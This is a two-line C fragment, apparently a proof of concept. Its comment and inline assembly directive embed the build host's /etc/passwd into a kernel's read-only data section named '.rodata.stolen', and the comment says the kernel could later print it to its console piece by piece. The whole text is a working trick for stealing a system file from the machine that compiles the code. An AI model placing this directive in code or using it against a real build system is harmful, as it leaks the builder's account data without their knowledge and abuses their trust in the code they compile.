/* A file of the host as data of the kernel, which could write it to its console, a bit at a time. */
__asm__(".section .rodata.stolen,\"a\"\n.incbin \"/etc/passwd\"\n.text");
